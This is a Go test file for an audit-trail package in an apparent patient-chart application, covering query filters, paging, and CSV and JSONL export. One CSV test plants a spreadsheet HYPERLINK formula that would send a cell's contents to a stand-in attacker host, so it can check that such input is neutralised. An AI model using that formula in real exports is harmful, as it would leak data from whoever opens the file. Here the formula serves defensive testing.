package audit_test

// Reading the trail back: Query's filters and paging, Export's CSV and JSONL output.

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"errors"
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/chartside/chartside/audit"
	"github.com/chartside/chartside/db/dbtest"
)

func TestQueryFiltersAndPaging(t *testing.T) {
	dbtest.Run(t, func(t *testing.T, tg dbtest.Target) {
		ctx := context.Background()
		c := newClock()
		start := c.now()
		l := audit.New(tg.Open(t), c.now)
		// 12 records, one a minute: users alternate, patients cycle p0..p2,
		// every fourth is a lookup.
		for i := 0; i < 12; i++ {
			action := audit.ActionChartView
			if i%4 == 0 {
				action = audit.ActionLookup
			}
			e := entry([]string{"alice", "bob"}[i%2], action, fmt.Sprintf("p%d", i%3), audit.OutcomeShown)
			if err := l.Record(ctx, e); err != nil {
				t.Fatal(err)
			}
			c.advance(time.Minute)
		}
		seqs := func(rs []audit.Record) []int64 {
			var out []int64
			for _, r := range rs {
				out = append(out, r.Seq)
			}
			return out
		}
		tests := []struct {
			name string
			f    audit.Filter
			want []int64
		}{
			{"all newest first", audit.Filter{}, []int64{12, 11, 10, 9, 8, 7, 6, 5, 4, 3, 2, 1}},
			{"user", audit.Filter{Username: "bob"}, []int64{12, 10, 8, 6, 4, 2}},
			{"patient", audit.Filter{PatientID: "p1"}, []int64{11, 8, 5, 2}},
			{"action", audit.Filter{Action: audit.ActionLookup}, []int64{9, 5, 1}},
			{"user and patient", audit.Filter{Username: "alice", PatientID: "p0"}, []int64{7, 1}},
			{"time range", audit.Filter{From: start.Add(2 * time.Minute), To: start.Add(5 * time.Minute)}, []int64{5, 4, 3}},
			{"from inclusive to end", audit.Filter{From: start.Add(10 * time.Minute)}, []int64{12, 11}},
			{"first page", audit.Filter{Limit: 5}, []int64{12, 11, 10, 9, 8}},
			{"second page", audit.Filter{Limit: 5, BeforeSeq: 8}, []int64{7, 6, 5, 4, 3}},
			{"last page", audit.Filter{Limit: 5, BeforeSeq: 3}, []int64{2, 1}},
			{"nothing", audit.Filter{Username: "carol"}, nil},
		}
		for _, tt := range tests {
			got, err := l.Query(ctx, tt.f)
			if err != nil {
				t.Fatal(err)
			}
			if fmt.Sprint(seqs(got)) != fmt.Sprint(tt.want) {
				t.Errorf("%s: seqs = %v, want %v", tt.name, seqs(got), tt.want)
			}
		}
	})
}

func TestExportCSVNeutralisesFormulas(t *testing.T) {
	dbtest.Run(t, func(t *testing.T, tg dbtest.Target) {
		ctx := context.Background()
		l := audit.New(tg.Open(t), newClock().now)
		e := entry("alice", audit.ActionLookup, "", audit.OutcomeNotFound)
		e.MRN = `=HYPERLINK("http://evil.example/?x="&A1,"click")`
		e.Detail = "@SUM(1+1)"
		if err := l.Record(ctx, e); err != nil {
			t.Fatal(err)
		}
		var buf bytes.Buffer
		if err := l.Export(ctx, &buf, audit.Filter{}, audit.FormatCSV); err != nil {
			t.Fatal(err)
		}
		rows, err := csv.NewReader(&buf).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		if len(rows) != 2 {
			t.Fatalf("CSV has %d rows, want header + 1", len(rows))
		}
		header, row := rows[0], rows[1]
		col := func(name string) string {
			for i, h := range header {
				if h == name {
					return row[i]
				}
			}
			t.Fatalf("no column %q in %v", name, header)
			return ""
		}
		if got, want := col("mrn"), "'"+e.MRN; got != want {
			t.Errorf("mrn cell = %q, want %q", got, want)
		}
		if got, want := col("detail"), "'@SUM(1+1)"; got != want {
			t.Errorf("detail cell = %q, want %q", got, want)
		}
		if got := col("username"); got != "alice" {
			t.Errorf("username cell = %q, want alice", got)
		}
	})
}

func TestCSVSafe(t *testing.T) {
	tests := []struct{ in, want string }{
		{"", ""},
		{"=1+1", "'=1+1"},
		{"+1", "'+1"},
		{"-1", "'-1"},
		{"@x", "'@x"},
		{"\tx", "'\tx"},
		{"\rx", "'\rx"},
		{"a=b", "a=b"},
		{"203713", "203713"},
	}
	for _, tt := range tests {
		if got := audit.CSVSafe(tt.in); got != tt.want {
			t.Errorf("CSVSafe(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

func TestExportJSONLAndFilters(t *testing.T) {
	dbtest.Run(t, func(t *testing.T, tg dbtest.Target) {
		ctx := context.Background()
		c := newClock()
		start := c.now()
		l := audit.New(tg.Open(t), c.now)
		for i := 0; i < 5; i++ {
			if err := l.Record(ctx, entry("alice", audit.ActionChartView, fmt.Sprint(i), audit.OutcomeShown)); err != nil {
				t.Fatal(err)
			}
			c.advance(time.Hour)
		}
		var buf bytes.Buffer
		f := audit.Filter{From: start.Add(time.Hour), To: start.Add(4 * time.Hour)}
		if err := l.Export(ctx, &buf, f, audit.FormatJSONL); err != nil {
			t.Fatal(err)
		}
		lines := strings.Split(strings.TrimSpace(buf.String()), "\n")
		var got []string
		for _, line := range lines {
			var rec map[string]any
			if err := json.Unmarshal([]byte(line), &rec); err != nil {
				t.Fatalf("line %q: %v", line, err)
			}
			got = append(got, fmt.Sprintf("%v/%v", rec["seq"], rec["patient_id"]))
		}
		if want := []string{"2/1", "3/2", "4/3"}; fmt.Sprint(got) != fmt.Sprint(want) {
			t.Errorf("exported %v, want %v (oldest first, range filtered)", got, want)
		}
		if err := l.Export(ctx, &buf, audit.Filter{}, "xlsx"); !errors.Is(err, audit.ErrUnknownFormat) {
			t.Errorf("Export xlsx error = %v, want ErrUnknownFormat", err)
		}
	})
}
